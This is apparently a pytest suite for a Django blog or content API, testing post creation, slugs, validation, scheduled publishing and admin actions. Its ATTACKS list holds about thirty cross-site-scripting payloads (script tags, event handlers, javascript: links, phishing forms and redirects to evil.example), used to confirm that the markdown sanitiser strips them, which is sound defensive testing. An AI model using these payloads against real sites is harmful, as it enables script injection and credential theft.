"""Posts on core and in the admin: safe HTML, slugs, what becomes of them in public, and that time publishes once."""

import json
import threading
from datetime import timedelta
from html.parser import HTMLParser

import pytest
import time_machine
from django.db import IntegrityError, connection, connections, transaction

from accounts.actors import system
from accounts.models import Activity
from accounts.roles import Role
from accounts.services.erasure import erase_user
from accounts.services.members import add_member
from ajansops.kit.clock import iso, now
from content.models import Post, PostStatus
from content.services import posts
from sites.models import Site
from tests.accounts.test_admin import address, post, staff
from tests.conftest import Api

pytestmark = pytest.mark.django_db

PATH = "/api/v1/posts"
FIELDS = {
    "id",
    "site_id",
    "title",
    "slug",
    "body",
    "html",
    "excerpt",
    "seo_title",
    "seo_description",
    "canonical_url",
    "tags",
    "author_id",
    "status",
    "publish_at",
    "published_at",
    "created_at",
    "updated_at",
}
HOUR = timedelta(hours=1)


@pytest.fixture
def write(acme, site):
    """`write(title="…")` is the new post as core shows it."""

    def made(api: Api = acme, **fields) -> dict:
        answer = api.post(PATH, {"site_id": site.pk, "title": "Clay pots", "body": "# Pots"} | fields)
        assert answer.status_code == 201, answer.content
        return answer.json()["data"]

    return made


def told() -> list[str]:
    lines = Activity.objects.filter(action__startswith="post.").order_by("seq")
    return [line.action.partition(".")[2] for line in lines]


def test_it_works(acme, site, write):
    row = write(tags=["pots", "Pots", "clay"], excerpt="Short", canonical_url="https://shop.example.com/pots")
    assert set(row) == FIELDS
    assert (row["slug"], row["html"], row["status"]) == ("clay-pots", "<h1>Pots</h1>", "draft")
    assert (row["tags"], row["publish_at"], row["published_at"]) == (["pots", "clay"], None, None)
    path = f"{PATH}/{row['id']}"
    assert acme.get(path).json()["data"] == row
    changed = acme.patch(path, {"title": "All pots", "body": "*new*"}).json()["data"]
    assert (changed["slug"], changed["html"]) == ("clay-pots", "<p><em>new</em></p>")
    put = acme.put(path, {"site_id": site.pk, "title": "Put"}).json()["data"]
    assert (put["slug"], put["body"], put["html"], put["tags"], put["excerpt"]) == ("clay-pots", "", "", [], "")
    assert acme.delete(path).status_code == 204
    assert acme.get(path).status_code == 404
    assert told() == ["created", "updated", "updated", "deleted"]


@pytest.mark.parametrize(
    ("query", "found"),
    [
        ("", ["Lamp", "Clay pot"]),
        ("search=CLAY", ["Clay pot"]),
        ("tag=garden", ["Lamp"]),
        ("status=published", ["Lamp"]),
        ("status=archived", []),
        ("site_id={site}", ["Clay pot"]),
        ("author_id={alice}", ["Lamp"]),
        ("sort=title", ["Clay pot", "Lamp"]),
    ],
)
def test_a_list_is_narrowed(people, acme, site, write, query, found):
    second = Site.objects.create(workspace=people.acme, name="Second", domain="second.example.com")
    write(title="Clay pot", tags=["pots"])
    lamp = write(title="Lamp", tags=["garden"], site_id=second.pk, author_id=people.alice.pk)
    acme.post(f"{PATH}/{lamp['id']}/publish")
    rows = acme.get(f"{PATH}?{query.format(site=site.pk, alice=people.alice.pk)}").json()["data"]
    assert [row["title"] for row in rows] == found


def test_site_and_author_are_included_at_no_more_queries_for_more_posts(people, acme, site, write):
    for number in range(3):
        write(title=f"T{number}", author_id=people.alice.pk)
    query = f"{PATH}?include=site,author&fields=title,site,author"
    row = acme.get(query).json()["data"][0]
    assert (row["site"]["domain"], row["author"]["email"]) == (site.domain, people.alice.email)
    counts = []
    for limit in (1, 3):
        with CaptureCount() as count:
            assert len(acme.get(f"{query}&per_page={limit}").json()["data"]) == limit
        counts.append(count.queries)
    assert counts[0] == counts[1]


class CaptureCount:
    """How many statements ran."""

    def __enter__(self):
        self.queries = 0
        self.wrapper = connection.execute_wrapper(self._count)
        self.wrapper.__enter__()
        return self

    def __exit__(self, *error):
        self.wrapper.__exit__(*error)

    def _count(self, execute, *args):
        self.queries += 1
        return execute(*args)


# --- what the HTML is -------------------------------------------------------------------------------------------------

REL = ' rel="noopener noreferrer"'
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jaVa\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1) 'title')",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example)' onclick=alert(1) id=x class=y>x</p>",
    "<td style='position:fixed;text-align:right'>x</td>",
    '```x" onclick="alert(1)\ncode\n```',
    "`<img src=x onerror=alert(1)>`",
    "<!-- <script>alert(1)</script> -->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[a](https://x.example 'x\" onmouseover=\"alert(1)')",
]


class Elements(HTMLParser):
    """What a browser would make of it: every tag with its attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("body", ATTACKS)
@pytest.mark.parametrize("around", ["{}", "Hello {} there", "> * {}", "|a|\n|-|\n|{}|", "<p>{}</p>"])
def test_no_body_becomes_harmful_html(write, body, around):
    for tag, attributes in Elements(write(body=around.format(body))["html"]).found:
        assert tag not in {"script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "base"}
        assert tag not in {"meta", "link", "button", "noscript"}
        assert not {name for name in attributes if name.startswith("on")} | {"id"} & attributes.keys()
        for name in ("href", "src"):
            assert (attributes.get(name) or "https:").split(":")[0] in {"https", "http", "mailto", "x"}, attributes
        assert attributes.get("style") in {None, "text-align:left", "text-align:right", "text-align:center"}
        assert tag != "a" or attributes["rel"] == "noopener noreferrer"


@pytest.mark.parametrize(
    ("body", "html"),
    [
        ("**b** _i_ ~~s~~ `c`", "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>"),
        ("[x](https://x.example)", f'<p><a href="https://x.example"{REL}>x</a></p>'),
        ("[x](/about)", f'<p><a href="/about"{REL}>x</a></p>'),
        ("![alt](https://x.example/i.png)", '<p><img src="https://x.example/i.png" alt="alt"></p>'),
        ("```python\n1 < 2\n```", '<pre><code class="language-python">1 &lt; 2\n</code></pre>'),
        ("a <sub>1</sub> & b", "<p>a <sub>1</sub> &amp; b</p>"),
        ("ığüşöç\u0007 őű", "<p>ığüşöç őű</p>"),
        ("", ""),
    ],
)
def test_markdown_becomes_html(write, body, html):
    assert write(body=body)["html"] == html


# --- slugs ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("title", "slug"),
    [
        ("Işıklı Saksılar & Çiçekler", "isikli-saksilar-cicekler"),
        ("Őszi tűzifa 2026", "oszi-tuzifa-2026"),
        ("日本語", "post"),
        ("!" * 300, "post"),
        ("a" * 300, "a" * 190),
    ],
)
def test_a_slug_comes_from_the_title(write, title, slug):
    assert [write(title=title)["slug"] for _ in range(3)] == [slug, f"{slug}-2", f"{slug}-3"]


def test_a_slug_is_taken_once_a_site(people, acme, site, write):
    first, second = write(slug="Pots"), write(slug="lamps")
    assert first["slug"] == "pots"
    answers = [
        acme.post(PATH, {"site_id": site.pk, "title": "T", "slug": "pots"}),
        acme.patch(f"{PATH}/{second['id']}", {"slug": "POTS"}),
    ]
    for answer in answers:
        assert (answer.status_code, answer.json()["error"], list(answer.json()["errors"])) == (
            409,
            "conflict",
            ["slug"],
        )
    elsewhere = Site.objects.create(workspace=people.acme, name="Second", domain="second.example.com")
    assert write(slug="pots", site_id=elsewhere.pk)["slug"] == "pots"
    moved = acme.patch(f"{PATH}/{first['id']}", {"site_id": elsewhere.pk})
    assert (moved.status_code, list(moved.json()["errors"])) == (409, ["slug"])
    assert (
        acme.patch(f"{PATH}/{first['id']}", {"site_id": elsewhere.pk, "slug": ""}).json()["data"]["slug"] == "clay-pots"
    )


@pytest.mark.parametrize(
    ("fields", "names"),
    [
        ({"title": ""}, ["title"]),
        ({"title": "\u0007"}, ["title"]),
        ({"title": "t" * 301}, ["title"]),
        ({"slug": "two words"}, ["slug"]),
        ({"slug": "çiçek"}, ["slug"]),
        ({"body": "b" * 100_001}, ["body"]),
        ({"body": None}, ["body"]),
        ({"canonical_url": "javascript:alert(1)"}, ["canonical_url"]),
        ({"canonical_url": "ftp://x.example"}, ["canonical_url"]),
        ({"tags": "pots"}, ["tags"]),
        ({"tags": [1, "x", []]}, ["tags.0", "tags.2"]),
        ({"status": "published"}, ["status"]),
        ({"html": "<b>x</b>"}, ["html"]),
    ],
)
def test_what_cannot_be_is_named(acme, site, fields, names):
    answer = acme.post(PATH, {"site_id": site.pk, "title": "T"} | fields)
    assert (answer.status_code, list(answer.json().get("errors", {}))) == (422, names), answer.content
    assert not Post.objects.exists()


# --- who wrote it -----------------------------------------------------------------------------------------------------


def test_the_author_is_whoever_makes_it(people, write, key_for):
    add_member(people.acme, people.charlie, Role.EDITOR)
    here = {"X-Workspace-ID": str(people.acme.pk)}
    assert write(Api(user=people.charlie, **here))["author_id"] == people.charlie.pk
    assert write(Api(key=key_for(people.acme, creator=people.alice)))["author_id"] == people.alice.pk
    assert write(Api(key=key_for(people.acme)))["author_id"] is None, "an operator made the key"
    assert write(Api(user=people.charlie, **here), author_id=people.bob.pk)["author_id"] == people.bob.pk
    assert write(Api(user=people.charlie, **here), author_id=None)["author_id"] is None


def test_an_export_has_what_one_wrote_and_erasure_takes_the_name_off(people, write):
    people.acme.memberships.filter(user=people.bob).update(role=Role.EDITOR)
    mine = write(Api(user=people.bob), title="Mine")
    write(title="Nobody's")
    document = json.loads(Api(user=people.bob).get("/api/account/export").getvalue())
    assert [(row["title"], row["body"]) for row in document["posts"]] == [("Mine", "# Pots")]
    erase_user(people.bob)
    assert Post.objects.get(pk=mine["id"]).author_id is None


def test_posts_go_with_their_site(acme, site, write):
    row = write()
    assert acme.delete(f"/api/v1/sites/{site.pk}").status_code == 204
    assert acme.get(f"{PATH}/{row['id']}").status_code == 404


# --- in public --------------------------------------------------------------------------------------------------------

SOON = "2099-01-02T03:04:05Z"


def act(api: Api, pk: int, verb: str):
    return api.post(f"{PATH}/{pk}/{verb}", {"publish_at": SOON} if verb == "schedule" else {})


STATUS = {"publish": "published", "unpublish": "draft", "archive": "archived", "schedule": "scheduled"}


@pytest.mark.parametrize("before", STATUS)
@pytest.mark.parametrize("verb", STATUS)
def test_every_status_leads_to_every_other_but_published_to_scheduled(acme, write, before, verb):
    pk = write()["id"]
    act(acme, pk, before)
    seen = told()
    answer = act(acme, pk, verb)
    if (before, verb) == ("publish", "schedule"):
        assert (answer.status_code, answer.json()["error"]) == (409, "conflict")
        return
    row = answer.json()["data"]
    assert (answer.status_code, row["status"]) == (200, STATUS[verb])
    assert row["publish_at"] == (SOON if verb == "schedule" else None)
    assert (row["published_at"] is None) is ("publish" not in {before, verb})
    new = told()[len(seen) :]
    assert new == ([] if before == verb else [{"unpublish": "unpublished"}.get(verb, STATUS[verb])]), "told once"


@pytest.mark.parametrize("scope", ["posts:write", "posts:publish", "posts:read", "posts:delete"])
@pytest.mark.parametrize("verb", STATUS)
def test_going_public_needs_its_own_scope(people, write, key_for, scope, verb):
    answer = act(Api(key=key_for(people.acme, scope)), write()["id"], verb)
    assert answer.status_code == (200 if scope == "posts:publish" else 403)
    if scope != "posts:publish":
        assert "Required scope: posts:publish" in answer.json()["message"]


@pytest.mark.parametrize(
    "publish_at",
    [None, "", "tomorrow", "2001-01-01T00:00:00Z", "9999-12-31T23:59:59-12:00", "0001-01-01T00:00:00+14:00"],
)
def test_a_time_that_is_none_or_has_passed_is_refused(acme, write, publish_at):
    pk = write()["id"]
    answer = acme.post(f"{PATH}/{pk}/schedule", {"publish_at": publish_at})
    assert (answer.status_code, list(answer.json()["errors"])) == (422, ["publish_at"]), answer.content
    assert acme.get(f"{PATH}/{pk}").json()["data"]["status"] == "draft"


@pytest.mark.parametrize(
    "fields",
    [
        {"status": "scheduled"},
        {"publish_at": now()},
        {"status": "published"},
        {"status": "nope"},
        {"slug": ""},
    ],
)
def test_the_database_refuses_what_makes_no_sense(people, site, fields):
    with pytest.raises(IntegrityError), transaction.atomic():
        Post.objects.create(**{"workspace": people.acme, "site": site, "title": "T", "slug": "t"} | fields)


# --- time -------------------------------------------------------------------------------------------------------------


def run() -> int:
    return Api(authorization="Bearer cron-secret").post("/api/cron/publish_posts?force=1").json()["posts_published"]


def test_a_scheduled_post_is_published_when_its_time_comes(people, acme, write):
    with time_machine.travel("2026-01-15T10:00:00Z", tick=False) as clock:
        due, later, withdrawn, archived = (write()["id"] for _ in range(4))
        for pk, at in (
            (due, now() + HOUR),
            (later, now() + 2 * HOUR),
            (withdrawn, now() + HOUR),
            (archived, now() + HOUR),
        ):
            acme.post(f"{PATH}/{pk}/schedule", {"publish_at": iso(at)})
        act(acme, withdrawn, "unpublish")
        act(acme, archived, "archive")
        clock.shift(HOUR - timedelta(seconds=1))
        assert run() == 0
        clock.shift(timedelta(seconds=1))
        assert run() == 1
        clock.shift(timedelta(seconds=1))
        assert run() == 0
        row = acme.get(f"{PATH}/{due}").json()["data"]
        assert (row["status"], row["publish_at"]) == ("published", None)
        assert row["published_at"] == "2026-01-15T11:00:00Z"
    statuses = {pk: Post.objects.get(pk=pk).status for pk in (later, withdrawn, archived)}
    assert statuses == {later: "scheduled", withdrawn: "draft", archived: "archived"}
    line = Activity.objects.get(action="post.published")
    assert (line.workspace_id, line.via, line.user_id, line.object_id) == (people.acme.pk, "system", None, str(due))


def test_the_posts_of_a_deleted_workspace_wait(people, acme, write):
    act(acme, write()["id"], "schedule")
    people.acme.deleted_at = now()
    people.acme.save()
    with time_machine.travel("2099-02-01T00:00:00Z"):
        assert run() == 0
        people.acme.deleted_at = None
        people.acme.save()
        assert run() == 1


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("guarded", [True, False], ids=["guarded", "positive control"])
def test_two_schedulers_publish_once(acme, write, monkeypatch, guarded):
    """Both have seen the same due posts. Without asking again under the lock each would be published twice."""
    for _ in range(3):
        act(acme, write()["id"], "schedule")
    gate, done = threading.Barrier(2), []
    publish_one = posts._publish_due

    def together(workspace_id, pk):
        row = Post.objects.get(pk=pk)
        gate.wait(10)
        if guarded:
            return publish_one(workspace_id, pk)
        with transaction.atomic():
            posts.moved(system(workspace_id), row, PostStatus.PUBLISHED)
        return True

    def schedule():
        try:
            done.append(posts.publish_due()["posts_published"])
        finally:
            connections.close_all()

    monkeypatch.setattr(posts, "_publish_due", together)
    with time_machine.travel("2099-02-01T00:00:00Z"):
        threads = [threading.Thread(target=schedule) for _ in range(2)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(30)
    assert sum(done) == (3 if guarded else 6)
    assert told().count("published") == sum(done)


# --- the admin --------------------------------------------------------------------------------------------------------


def form(site: Site, **fields) -> dict:
    given = {
        "workspace": site.workspace_id,
        "site": site.pk,
        "title": "By hand",
        "slug": "",
        "body": "<b>x</b><script>",
    }
    empty = {"excerpt": "", "seo_title": "", "seo_description": "", "canonical_url": "", "tags": "", "author": ""}
    return given | empty | fields


def test_the_admin_writes_safe_posts(people, site):
    api = staff(people.alice)
    assert post(api, address(Post, "add"), **form(site)).status_code == 302
    row = Post.objects.get()
    assert (row.slug, row.html, row.status, row.tags) == ("by-hand", "<p><b>x</b></p>", "draft", [])
    again = post(api, address(Post, "add"), **form(site))
    assert (again.status_code, Post.objects.count()) == (200, 1), "the slug is taken"
    assert post(api, address(Post, "add"), **form(site, tags='{"a": 1}', slug="b")).status_code == 200
    assert told() == ["created"]


def test_the_admins_actions_are_the_services(people, site, their_site):
    rows = [Post.objects.create(workspace=one.workspace, site=one, title="T", slug="t") for one in (site, their_site)]
    api = staff(people.alice)
    for verb in ("publish", "unpublish", "archive"):
        post(api, address(Post, "changelist"), action=verb, _selected_action=[row.pk for row in rows])
        assert Post.objects.get(pk=rows[0].pk).status == STATUS[verb]
        assert Post.objects.get(pk=rows[1].pk).status == "draft", "not hers"
    assert told() == ["published", "unpublished", "archived"]
